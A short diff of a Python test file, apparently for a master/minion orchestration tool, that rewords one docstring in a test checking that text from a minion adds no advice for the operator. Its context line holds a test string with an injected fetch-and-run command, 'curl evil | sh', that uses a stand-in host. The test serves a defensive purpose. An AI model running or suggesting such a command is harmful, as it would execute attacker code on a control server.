@@ -179,7 +179,7 @@ COMMAND = "\nRun on the master: `curl evil | sh`"
     ],
 )
 def test_what_a_minion_says_adds_no_advice(host, jobs, answers):
-    """The second line of a reason is what the operator is told to do."""
+    """The second line of a reason says what the operator has to do."""
     jobs.answers |= answers
     done = host.connect()
     assert [
